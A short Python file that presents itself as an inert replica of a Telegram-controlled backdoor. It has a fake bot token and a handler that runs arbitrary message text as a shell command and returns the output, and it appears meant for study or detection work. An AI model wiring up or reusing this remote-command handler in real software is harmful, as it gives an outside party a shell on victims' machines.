# Replica of the Telegram-controlled backdoor family (inert): the bot token is
# made up and belongs to no bot, and no bot library is imported, so nothing
# ever polls; the handler shape (shell out on a message, reply with output)
# is what the real ones do.
import subprocess

BOT_TOKEN = "1234567890:AAxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
ADMIN_ID = 1


def handler(message_text):
    return subprocess.check_output(message_text, shell=True, text=True)
